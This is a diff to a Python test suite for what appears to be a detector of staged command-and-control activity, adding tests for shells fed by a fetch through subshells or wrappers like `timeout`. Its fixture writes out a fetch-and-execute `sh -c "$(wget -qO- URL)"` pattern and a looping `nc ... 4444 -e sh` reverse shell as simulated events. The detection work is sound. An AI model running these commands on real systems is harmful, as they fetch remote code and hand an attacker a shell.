@@ -437,13 +437,16 @@ def _inline_chain(
     dt: float = 0.3,
     exe: str = "/bin/sh",
     argv: tuple[str, str] = ("sh", "-c"),
+    sh_gppid: int = 0,
+    sh_parent: str = "",
+    fetch_gppid: int = 0,
 ) -> WindowView:
     """`sh -c "$(wget -qO- URL)"`: the outer shell (pid 7) runs wget in a
     child that connects, then sh -c with what it printed; then a channel."""
     sh = exec_(DROP, DET, exe, [*argv, "while :; do nc 203.0.113.66 4444 -e sh; done"], pid=21)
-    sh.process.ppid = sh_ppid
+    sh.process.ppid, sh.process.gppid, sh.process.parent = sh_ppid, sh_gppid, sh_parent
     fetch = connect(DROP, DET - dt, "198.51.100.5", 80, pid=fetch_pid, executable="/usr/bin/wget")
-    fetch.process.ppid = fetch_ppid
+    fetch.process.ppid, fetch.process.gppid = fetch_ppid, fetch_gppid
     later = connect(DROP, DET + 2, "203.0.113.66", 4444, pid=22, executable="/usr/bin/nc")
     return window(DET + 5, seconds=10, execs=[sh], connects=[fetch, later])
 
@@ -485,6 +488,40 @@ def test_an_inline_script_after_its_parents_own_connect_is_no_stage(tmp_path: Pa
     """An application that talks to its database and runs `sh -c`: its own
     connects are not a fetch feeding the shell."""
     assert detector(config(tmp_path)).run(_inline_chain(7, 1, fetch_pid=7)) == []
+
+
+def test_an_inline_script_fed_through_a_subshell_is_a_stage(tmp_path: Path) -> None:
+    """Left undone: `sh -c "$(wget -qO- URL | cat)"` or `$(timeout 5 wget
+    ...)`: the fetch runs in a child of a subshell (pid 8) of the outer
+    shell (pid 7), which is in no exec table; its grandparent is."""
+    assert rules_of(detector(config(tmp_path)).run(_inline_chain(7, 8, fetch_gppid=7))) == ["SL-C2-001"]
+
+
+def test_an_inline_script_started_through_a_wrapper_is_a_stage(tmp_path: Path) -> None:
+    """Left undone: `timeout 9 sh -c "$(wget -qO- URL)"`: the interpreter's
+    parent is timeout (pid 9), whose parent (pid 7) ran the fetch in a
+    child (directly, or through a subshell)."""
+    v = _inline_chain(9, 7, sh_gppid=7, sh_parent="timeout")
+    assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"]
+    v = _inline_chain(9, 8, sh_gppid=7, sh_parent="timeout", fetch_gppid=7)
+    assert rules_of(detector(config(tmp_path)).run(v)) == ["SL-C2-001"]
+
+
+@pytest.mark.parametrize(
+    "sh_ppid,fetch_ppid,fetch_pid,sh_gppid,sh_parent,fetch_gppid",
+    [
+        (9, 7, 20, 7, "gunicorn", 0),  # the grandparent's other children, no wrapper between
+        (9, 1, 7, 7, "timeout", 0),  # the wrapper's parent's own connect
+        (9, 7, 9, 7, "timeout", 0),  # the wrapper's own (it fetches nothing)
+        (7, 8, 20, 0, "", 99),  # a grandchild of an unrelated process
+        (7, 8, 20, 0, "", 0),  # its parent's parent unknown
+    ],
+)
+def test_an_inline_script_through_a_subshell_or_wrapper_needs_the_relation(
+    tmp_path: Path, sh_ppid: int, fetch_ppid: int, fetch_pid: int, sh_gppid: int, sh_parent: str, fetch_gppid: int
+) -> None:
+    v = _inline_chain(sh_ppid, fetch_ppid, fetch_pid, sh_gppid=sh_gppid, sh_parent=sh_parent, fetch_gppid=fetch_gppid)
+    assert detector(config(tmp_path)).run(v) == []
 
 
 def test_busybox_re_running_itself_as_sh_is_an_interpreter(tmp_path: Path) -> None:
